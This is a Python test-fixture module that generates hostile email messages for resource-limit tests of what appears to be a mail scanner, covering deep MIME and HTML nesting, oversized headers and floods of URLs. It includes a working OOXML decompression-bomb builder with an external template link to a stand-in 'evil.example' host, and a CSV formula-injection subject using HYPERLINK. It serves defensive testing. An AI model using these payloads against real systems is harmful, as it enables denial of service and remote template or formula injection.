"""Generated hostile messages for the resource-limit tests: built in memory, never committed.

Each builder returns the bytes of one message (or, for the OOXML bomb, of one attachment). The
sizes are the ones issue 9 names; tests may pass smaller ones to keep a case quick.
"""

from __future__ import annotations

import base64
import csv
import io
import struct
import zlib

HEAD = b"From: a@example.org\r\nTo: b@example.org\r\nSubject: limits\r\nDate: Mon, 1 Jan 2024 00:00:00 +0000\r\n"


def deep_multipart(depth: int = 10_000) -> bytes:
    """`depth` multiparts each holding the next one, an HTML leaf at the bottom."""
    lines = [HEAD + b"MIME-Version: 1.0\r\n"]
    for level in range(depth):
        lines.append(b'Content-Type: multipart/mixed; boundary="b%d"\r\n\r\n--b%d\r\n' % (level, level))
    lines.append(b'Content-Type: text/html\r\n\r\n<img src="http://deep.example/p.gif">\r\n')
    for level in reversed(range(depth)):
        lines.append(b"--b%d--\r\n" % level)
    return b"".join(lines)


def deep_rfc822(depth: int = 10_000) -> bytes:
    """Messages forwarded as attachments inside each other, `depth` times."""
    lines = [HEAD + b"MIME-Version: 1.0\r\n"]
    for _ in range(depth):
        lines.append(b"Content-Type: message/rfc822\r\n\r\nSubject: inner\r\n")
    lines.append(b"Content-Type: text/plain\r\n\r\nbottom\r\n")
    return b"".join(lines)


def many_parts(count: int = 100_000) -> bytes:
    body = b"".join(b"--p\r\nContent-Type: text/plain\r\n\r\npart %d\r\n" % i for i in range(count))
    return HEAD + b'MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary="p"\r\n\r\n' + body + b"--p--\r\n"


def long_header_line(size: int = 1_000_000) -> bytes:
    """One 1 MB Subject line, a 1 MB From with thousands of encoded words, a 1 MB address list."""
    words = b"=?utf-8?q?caf=C3=A9?= " * (size // 22)
    addresses = b", ".join(b"x%d@example.org" % i for i in range(size // 20))
    return (
        b"From: " + words + b"<a@example.org>\r\nTo: " + addresses + b"\r\nSubject: " + b"A" * size + b"\r\n"
        b"Date: Mon, 1 Jan 2024 00:00:00 +0000\r\n\r\nbody\r\n"
    )


def many_received(count: int = 50_000) -> bytes:
    hops = b"".join(
        b"Received: from h%d.example.net (h%d.example.net [10.0.%d.%d]) by mx.example.org with ESMTP id %d; "
        b"Mon, 1 Jan 2024 00:%02d:00 +0000\r\n" % (i, i, i // 256 % 256, i % 256, i, i % 60)
        for i in range(count)
    )
    return hops + HEAD + b"\r\nbody\r\n"


def base64_garbage(size: int = 5_000_000) -> bytes:
    """A base64 attachment and a base64 HTML body full of characters base64 does not have."""
    junk = (b"QUJD!!@@##$$%%^^&&**()_+{}|:<>?~`" * (size // 33 + 1))[:size]
    lines = b"\r\n".join(junk[i : i + 76] for i in range(0, len(junk), 76))
    return (
        HEAD + b'MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary="g"\r\n\r\n'
        b"--g\r\nContent-Type: text/html\r\nContent-Transfer-Encoding: base64\r\n\r\n" + lines[:100_000] + b"\r\n"
        b'--g\r\nContent-Type: application/pdf; name="x.pdf"\r\nContent-Transfer-Encoding: base64\r\n\r\n'
        + lines
        + b"===\r\n--g--\r\n"
    )


def big_attachment(size: int) -> bytes:
    """A message of about `size` bytes: a short HTML body and one base64 attachment filling the rest."""
    raw = b"%PDF-1.7\n" + b"\x00\x01binary" * ((size * 3 // 4) // 8)
    encoded = base64.encodebytes(raw)
    return (
        HEAD + b'MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary="big"\r\n\r\n'
        b'--big\r\nContent-Type: text/html\r\n\r\n<p>see attached <img src="https://t.example/o.gif"></p>\r\n'
        b'--big\r\nContent-Type: application/pdf; name="big.pdf"\r\nContent-Disposition: attachment; '
        b'filename="big.pdf"\r\nContent-Transfer-Encoding: base64\r\n\r\n' + encoded + b"--big--\r\n"
    )


def ooxml_bomb(member_bytes: int = 50_000_000, members: int = 100) -> bytes:
    """A .docx whose document.xml and `members` header parts each inflate to `member_bytes`.

    The zip is written by hand so one compressed stream serves every member: building 400
    bombs with `zipfile` would deflate 80 GB.
    """
    bomb, crc = _deflated_repeat(b"<w:t>" + b"A" * 65_531 + b"</w:t>", member_bytes // 65_542)
    rels = (
        b'<Relationships><Relationship Id="r1" Type="http://x/attachedTemplate" '
        b'Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>'
    )
    entries = [("[Content_Types].xml", b"<Types/>"), ("word/_rels/document.xml.rels", rels)]
    plain = [(name, zlib.compress(data)[2:-4], zlib.crc32(data), len(data)) for name, data in entries]
    usize = member_bytes // 65_542 * 65_542
    bombs = [(f"word/{n}.xml", bomb, crc, usize) for n in ["document"] + [f"header{i}" for i in range(members)]]
    return _zip(plain + bombs)


def _deflated_repeat(chunk: bytes, times: int) -> tuple[bytes, int]:
    squeeze = zlib.compressobj(9, zlib.DEFLATED, -15)
    out, crc = [], 0
    for _ in range(times):
        out.append(squeeze.compress(chunk))
        crc = zlib.crc32(chunk, crc)
    out.append(squeeze.flush())
    return b"".join(out), crc


def _zip(members: list[tuple[str, bytes, int, int]]) -> bytes:
    """A deflate zip from already compressed members: (name, raw deflate data, crc32, size)."""
    body, directory = io.BytesIO(), io.BytesIO()
    for name, data, crc, size in members:
        encoded = name.encode()
        offset = body.tell()
        fields = (20, 0, 8, 0, 0x21, crc, len(data), size, len(encoded))
        body.write(struct.pack("<IHHHHHIIIHH", 0x04034B50, *fields, 0) + encoded + data)
        directory.write(struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, *fields, 0, 0, 0, 0, 0, offset))
        directory.write(encoded)
    start, size = body.tell(), directory.tell()
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(members), len(members), size, start, 0)
    return body.getvalue() + directory.getvalue() + end


def with_attachment(data: bytes, filename: str, content_type: str) -> bytes:
    encoded = base64.encodebytes(data)
    return (
        HEAD + b'MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary="z"\r\n\r\n'
        b"--z\r\nContent-Type: text/plain\r\n\r\nsee attached\r\n"
        b"--z\r\nContent-Type: "
        + content_type.encode()
        + b'\r\nContent-Disposition: attachment; filename="'
        + filename.encode()
        + b'"\r\nContent-Transfer-Encoding: base64\r\n\r\n'
        + encoded
        + b"--z--\r\n"
    )


def html_message(html: str) -> bytes:
    return HEAD + b"MIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\n\r\n" + html.encode()


def million_elements(count: int = 1_000_000) -> bytes:
    return html_message("<html><body>" + '<b><img src="https://t.example/p.gif"></b>' * 10 + "<i>x</i>" * count)


def deep_html(depth: int = 100_000) -> bytes:
    return html_message("<div>" * depth + '<img src="https://t.example/deep.gif">' + "</div>" * depth)


def deep_css(depth: int = 50_000) -> bytes:
    """Nested blocks and functions in a <style> element and in a style attribute."""
    nested_rules = "@media screen{" * depth + "a{background:url(https://t.example/a.png)}" + "}" * depth
    nested_functions = "background:" + "calc(" * depth + "url(https://t.example/b.png)" + ")" * depth
    return html_message(f'<style>{nested_rules}</style><p style="{nested_functions}">x</p>')


def many_long_headers(count: int = 200, size: int = 64_000) -> bytes:
    """`count` From, To and Subject headers each just under the per-header limit."""
    words = b"=?utf-8?q?caf=C3=A9?= " * (size // 22)
    addresses = b", ".join(b"x%d@example.org" % i for i in range(size // 18))[: size - 100]
    block = b"From: " + words + b"<a@example.org>\r\nTo: " + addresses + b"\r\nSubject: " + words + b"\r\n"
    return block * count + b"Date: Mon, 1 Jan 2024 00:00:00 +0000\r\n\r\nbody\r\n"


def many_urls(count: int = 20_000) -> bytes:
    """`count` distinct remote images, links and CSS backgrounds (the scanner lists at most 20,000)."""
    items = (
        f'<img src="https://t{i % 97}.example{i}.com/o/{i}.gif?u=abc{i}"><a href="https://l.example.net/c/{i}">x</a>'
        for i in range(count // 2)
    )
    return html_message(
        "<style>"
        + "".join(f".c{i}{{background:url(https://c.example/{i}.png)}}" for i in range(2000))
        + "</style>"
        + "".join(items)
    )


def long_urls(count: int = 400, labels: int = 2_000) -> bytes:
    """URLs with thousands of host labels, long repeated paths and percent runs."""
    host = "a." * labels + "example.com"
    path = "/db/" * 500 + "%" * 2000 + "/1" * 500
    return html_message(
        "".join(f'<img src="http://{host}{path}{i}"><a href="https://x.example/?{"a=1&" * 500}">' for i in range(count))
    )


def many_headers(size: int = 20_000_000) -> bytes:
    """A header block of `size` bytes of tiny headers (4 million of them at the default)."""
    return b"X:y\r\n" * (size // 5) + HEAD + b"\r\nbody\r\n"


def plain_links(count: int = 1_000_000) -> bytes:
    """A plain-text body of `count` lines, each a link (1,000,000: 29 MB), as in issue 17."""
    lines = b"".join(b"http://e.example/%07d?a=1\n" % i for i in range(count))
    return HEAD + b"MIME-Version: 1.0\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n" + lines


def plain_links_multipart(count: int = 1_000_000) -> bytes:
    """The same body inside a multipart/alternative, beside a small HTML part."""
    lines = b"".join(b"http://e.example/%07d?a=1\n" % i for i in range(count))
    return (
        HEAD
        + b'MIME-Version: 1.0\r\nContent-Type: multipart/alternative; boundary="z"\r\n\r\n'
        + b"--z\r\nContent-Type: text/plain\r\n\r\n"
        + lines
        + b"\r\n--z\r\nContent-Type: text/html\r\n\r\n<p>hi</p>\r\n--z--\r\n"
    )


FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
INJECTING_SUBJECT = 'Invoice;=HYPERLINK("http://x.example","y") a,+1 b\t@SUM(1) c;\t-2 d; "=3'
# CSV formula injection (issue 21): a formula after `;` is a cell for Excel in fr-BE and nl-BE.
INJECTING_MESSAGE = (
    "From: News <news@example.com>\r\nTo: r@example.org\r\n"
    f"Subject: {INJECTING_SUBJECT}\r\nDate: Tue, 3 Nov 2026 10:00:00 +0000\r\n"
    "Message-ID: <1@example.com>\r\nContent-Type: text/html\r\n\r\n"
    '<p>hi<img src="https://t.example/a;=1+2/p.gif" width="1" height="1"></p>\r\n'
).encode()


def formula_cells(text: str) -> list[str]:
    """Cells a spreadsheet would start with a formula character, read with `,` (en) and `;` (fr-BE, nl-BE)."""
    found = []
    for delimiter in (",", ";", "\t"):
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter):
            found += [cell for cell in row if cell.startswith(FORMULA_STARTS)]
    return found
